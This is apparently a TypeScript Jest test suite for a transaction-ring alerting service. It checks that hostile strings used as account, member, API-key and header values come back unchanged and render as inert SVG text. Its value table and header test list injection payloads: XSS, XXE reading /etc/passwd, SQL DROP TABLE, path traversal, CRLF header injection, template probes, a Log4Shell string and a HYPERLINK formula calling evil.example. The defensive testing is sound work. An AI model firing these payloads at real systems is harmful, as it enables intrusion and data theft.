import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { printable } from '../../core/printable-text.ts';
import { ringOf } from '../api/sample-definitions.ts';
import { NDJSON, send } from '../http/http-client.ts';
import { type HostileService, startHostile } from './hostile-service.ts';
import { textsOfSvg } from './svg-text.ts';

/** Texts that do something where they are put without care. */
const VALUES: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  'the end of an element': '</text></svg><script>alert(1)</script>',
  'an attribute': '" onload="alert(1)" x="',
  'an attribute in single quotes': "' onmouseover='alert(1)",
  'a foreign object': '<foreignObject><iframe src="javascript:alert(1)"/></foreignObject>',
  'an entity': '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  'a section': ']]><script>alert(1)</script><![CDATA[',
  'a comment': '--><script>alert(1)</script><!--',
  'escapes that are there already': '&lt;b&gt;&amp;&#60;&#x3c;',
  'a style': '</style><style>@import url(//evil.example)',
  'the direction turned': '\u202e0001 knab\u202c',
  'isolates of direction': '\u2066a\u2067b\u2069',
  zeros: 'a\0b\u0001c\u001b[31md\u007f\u0085',
  'line ends': 'a\r\nSet-Cookie: x=1\r\n\r\nb\u2028c\u2029d',
  'signs that look alike': 'раураl ⅠⅡ ﬁ ①',
  'marks upon marks': `a${'\u0301'.repeat(200)}`,
  'faces of many parts': '👩‍👩‍👧‍👦🏳️‍🌈',
  'no characters': '\ufffe\uffff\ufdd0',
  formulas: '=HYPERLINK("http://evil.example","x")',
  templates: '\u0024{7*7}{{7*7}}<%= 7*7 %>#{7*7}',
  paths: '../../../../etc/passwd',
  statements: `'; DROP TABLE tenants; --`,
  'a prototype': '__proto__',
  'a long text': 'x'.repeat(50_000),
};

let service: HostileService;
/** Alerts by the name of the value that their accounts have. */
// biome-ignore lint/suspicious/noExplicitAny: the shape is the document's
const alerts = new Map<string, any>();

/** The three accounts of the ring of a value. */
function accounts(value: string): readonly string[] {
  return ['1', '2', '3'].map((n) => `${value}${n}`);
}

beforeAll(async () => {
  service = await startHostile();
  const { attacker } = service;
  const rows = Object.entries(VALUES).flatMap(([name, value], n) => {
    const [a, b, c] = accounts(value) as [string, string, string];
    const ends = [
      [a, b],
      [b, c],
      [c, a],
    ] as const;
    return ringOf(name, n * 10).map((row, i) => ({
      ...row,
      tx: `${value}/${i}`,
      payer: ends[i]?.[0],
      payee: ends[i]?.[1],
    }));
  });
  const body = `${rows.map((row) => JSON.stringify(row)).join('\n')}\n`;
  const { json } = await send(service.address, '/v1/sources/transfers/events?wait=applied', {
    token: attacker.token,
    headers: NDJSON,
    body,
  });
  expect([json.accepted, json.rejected]).toEqual([rows.length, []]);
  const count = Object.keys(VALUES).length;
  for (;;) {
    const { alerts: page } = await attacker.data(
      `{ alerts(first: 40) { nodes { alertId key { name value } values reasons { text } line rings { text vertices { key }
        edges { key from to } system: svg light: svg(theme: LIGHT) dark: svg(theme: DARK) } } } }`,
    );
    if (page.nodes.length >= count) {
      for (const alert of page.nodes) {
        const tx = String(alert.values.tx);
        const name = Object.keys(VALUES).find((one) => tx === `${VALUES[one]}/2`);
        if (name !== undefined) alerts.set(name, alert);
      }
      break;
    }
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
});
afterAll(() => service.end());

describe.each(Object.keys(VALUES))('a value that is %s', (name) => {
  it('is text in the picture of its ring, in every theme, and can be seen', () => {
    const [ring] = alerts.get(name).rings;
    for (const svg of [ring.system, ring.light, ring.dark]) {
      const texts = textsOfSvg(svg);
      for (const account of accounts(VALUES[name] as string)) expect(texts).toContain(printable(account));
    }
  });

  it('is given back as it came, in JSON', () => {
    const value = VALUES[name] as string;
    const { rings, values, key, line } = alerts.get(name);
    const [a, b, c] = accounts(value);
    expect(values).toMatchObject({ payer: c, payee: a });
    expect(rings[0].vertices.map((vertex: { key: string }) => vertex.key)).toEqual([a, b, c, a]);
    expect(JSON.parse(line).key).toEqual({ payer: c, payee: a });
    // What is searched for is kept as PostgreSQL can hold it.
    expect(key[0].value.length).toBeGreaterThan(0);
  });

  it('is found by a query that names it, and by nothing that it could be taken for', async () => {
    const value = VALUES[name] as string;
    const { query } = await service.attacker.data(
      `query ($p: Row) { query(view: "flow", parameters: $p,
        text: "MATCH (a:Account)-[t:TRANSFER]->(b:Account) WHERE a.id = $account RETURN a, b") { rows { nodes } } }`,
      { p: { account: accounts(value)[0] } },
    );
    expect(query.rows.nodes).toEqual([{ a: accounts(value)[0], b: accounts(value)[1] }]);
  });
});

describe('the strict reader of pictures', () => {
  it.each([
    '<script>alert(1)</script>',
    '<text onload="x">a</text>',
    '<text x="javascript:1">a</text>',
    '<text>a & b</text>',
    '<text>a',
    '<text>a</title></text>',
    '<a href="x">a</a>',
    '<style>@import url(x)</style>',
    '<text>\u0001</text>',
  ])('refuses %j, so that one would be seen', (inner) => {
    const svg = (text: string): string =>
      `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg">${text}</svg>`;
    expect(textsOfSvg(svg('<text x="1">a&#60;b</text>'))).toEqual(['a<b']);
    expect(() => textsOfSvg(svg(inner))).toThrow();
  });
});

describe('names and comments', () => {
  it('of people, keys, endpoints and drafts are given back as they came, or refused with a code', async () => {
    const { attacker } = service;
    for (const [name, value] of Object.entries(VALUES)) {
      const answers = await attacker.data(
        `mutation ($name: String!, $email: String!, $url: String!) {
          createMember(input: { name: $name, email: $email, scopes: [QUERY] }) { member { name } userErrors { code } }
          createApiKey(input: { name: $name, scopes: [QUERY] }) { apiKey { name } userErrors { code } }
          createWebhookEndpoint(input: { name: $name, url: $url }) { endpoint { name } userErrors { code } } }`,
        { name: value, email: `${name.replaceAll(' ', '.')}@a.example`, url: 'https://public.example/' },
      );
      for (const { userErrors, member, apiKey, endpoint } of Object.values(answers) as Record<
        string,
        never
      >[]) {
        const made = (member ?? apiKey ?? endpoint) as { readonly name: string } | null | undefined;
        if (made === null || made === undefined)
          expect((userErrors as unknown as { code: string }[])[0]?.code).toBe('FIELD_INVALID');
        else expect(made.name).toBe(value.trim());
      }
    }
    await service.expectHealthy();
  });

  it('in headers do nothing', async () => {
    for (const value of ['x\u00ff', "'; --", '\u0024{jndi:ldap://evil.example/a}', '{{7*7}}']) {
      const headers = {
        'x-ringwatch-tenant': value,
        'user-agent': value,
        referer: value,
        'x-forwarded-for': value,
        traceparent: value,
      };
      const { status, text } = await send(service.address, '/graphql', {
        token: service.attacker.token,
        headers: { ...headers, 'content-type': 'application/json' },
        body: '{"query":"{viewer{name}}"}',
      });
      expect([status, /"code":"(\w+)"/.exec(text)?.[1]]).toEqual([404, 'TENANT_UNKNOWN']);
      // The id of the request is made by chance, and may have any digits.
      expect(text.replace(/"requestId":"\w+"/g, '')).not.toContain('49');
    }
    await service.expectHealthy();
  });
});
